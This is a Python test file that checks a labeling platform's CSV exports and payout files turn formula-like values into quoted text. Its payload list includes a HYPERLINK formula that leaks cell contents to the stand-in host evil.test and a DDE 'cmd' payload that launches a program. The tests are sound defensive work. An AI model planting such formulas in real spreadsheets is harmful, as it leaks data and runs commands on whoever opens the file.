"""Formula injection: text another tenant chose must reach a spreadsheet as text, never as a formula.

Each CSV Concord writes is read back with the standard csv module, as a spreadsheet would see the cells.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from backend.db import unit_of_work
from backend.exports import write_export
from backend.models import Worker
from tests.api.test_payments import annotator, fill, mgr, work  # noqa: F401 (fixtures)

PAYLOADS = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _project(task_type="single_choice", labels=None):
    return {"id": 9, "name": "p", "task_type": task_type, "labels": labels, "text_field": None,
            "image_field": None, "min": None, "max": None}


def _row(task_id, external_id, choice):
    answers = [{"worker": "w-1", "answer": {"choice": choice}, "submitted_at": "2025-03-04T05:06:07+00:00",
                "active_seconds": 3}]
    return {"task_id": task_id, "external_id": external_id, "batch_id": 3, "data": {"text": "t"},
            "answers": answers, "consensus": {"answer": {"choice": choice}, "confidence": 1.0,
                                              "method": "majority", "answers_used": 1}, "agreement": -0.5}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_external_id_or_label_chosen_as_a_formula_is_exported_as_text(payload):
    fh = io.BytesIO()
    write_export("csv", iter([_row(1, payload, payload)]), fh, _project(labels=[payload]))
    (line,) = list(csv.DictReader(io.StringIO(fh.getvalue().decode())))
    assert line["external_id"] == "'" + payload
    assert line["consensus_answer"] == "'" + payload
    # A control task's expected answer is a cell like the others.
    fh = io.BytesIO()
    write_export("csv", iter([{**_row(1, "e", payload), "gold": True, "expected": {"choice": payload}}]), fh,
                 _project(labels=[payload]))
    (control,) = list(csv.DictReader(io.StringIO(fh.getvalue().decode())))
    assert (control["gold"], control["expected"]) == ("true", "'" + payload)
    # Numbers stay numbers: a negative agreement is not a formula.
    assert line["agreement"] == "-0.5" and line["task_id"] == "1"


def test_plain_numbers_are_kept_and_everything_else_that_could_run_is_quoted():
    from backend.exports._common import csv_cell

    assert [csv_cell(v) for v in (-3, "-3", "+1.5e3", "-0.25", 2.5)] == [-3, "-3", "+1.5e3", "-0.25", 2.5]
    assert [csv_cell(v) for v in ("-3+A1", "=1", "@x", "\t1", "\r1", "a=b")] == \
        ["'-3+A1", "'=1", "'@x", "'\t1", "'\r1", "a=b"]


def test_a_vendor_worker_name_chosen_as_a_formula_is_text_in_the_payout_file(
        project_factory, fill, mgr, annotator):  # noqa: F811
    project = project_factory(overlap=1, reward={"amount": 100, "currency": "USD"})
    fill(project, 1)
    worker = annotator()
    work(worker, project.id, 1)
    with unit_of_work() as session:
        session.execute(update(Worker).where(Worker.id == worker.worker_id).values(external_id=PAYLOADS[0]))
    mgr.post(f"/api/v1/projects/{project.id}/reviews", json={"action": "approve"})
    payout = mgr.post("/api/v1/payouts", json={"currency": "USD", "minimum": 1})
    assert payout.status_code == 201, payout.json
    text = mgr.get(f"/api/v1/payouts/{payout.json['id']}/file?format=csv").get_data(as_text=True)
    (line,) = list(csv.DictReader(io.StringIO(text)))
    assert line["external_id"] == "'" + PAYLOADS[0] and line["amount"] == "100"
